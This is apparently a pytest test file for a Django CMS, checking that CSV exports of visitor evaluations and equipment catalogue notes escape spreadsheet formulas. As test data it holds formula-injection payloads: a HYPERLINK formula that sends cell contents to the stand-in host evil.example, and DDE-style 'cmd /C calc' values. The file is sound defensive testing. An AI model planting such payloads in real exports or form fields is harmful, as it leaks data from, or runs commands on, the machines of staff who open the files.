"""CSV exports never carry a formula: cells a spreadsheet would evaluate are written as text."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from tests.cms.helpers import material
from tests.factories import EquipmentFactory, UnitFactory
from videnscenter.helpers.spreadsheet import escape_formula

pytestmark = pytest.mark.django_db

BROWSER = {"HTTP_USER_AGENT": "Mozilla/5.0 (Windows NT 10.0) Firefox/130.0"}
PAYLOAD = '=HYPERLINK("https://evil.example/?x="&A1,"Klik")'


def rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Godt forløb", "Godt forløb"),
        ("a=b", "a=b"),
        (4, 4),
        (None, None),
    ],
)
def test_escape_formula(value, written):
    assert escape_formula(value) == written


def test_a_visitors_formula_in_an_evaluation_reaches_staff_as_text(client, centre, staff):
    course = material(centre)
    visitor = Client()
    visitor.get(reverse("cms:material_download", args=[course.files.first().pk]), **BROWSER)
    data = {"rating": "4", "usable": "yes", "comment": PAYLOAD}
    assert visitor.post(reverse("cms:material_evaluate", args=[course.pk]), data, **BROWSER).status_code == 302
    client.force_login(staff)
    exported = rows(client.get(reverse("evaluations:index"), {"export": "csv"}))
    comments = [row[3] for row in exported[1:]]
    assert comments == ["'" + PAYLOAD]


def test_catalogue_exports_escape_formulas_too(client, staff, centre):
    UnitFactory(equipment=EquipmentFactory(owning_centre=centre), condition_notes="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(staff)
    exported = rows(client.get(reverse("wagtailsnippets_catalogue_unit:list"), {"export": "csv"}))
    assert exported[1][-1].startswith("'@SUM")
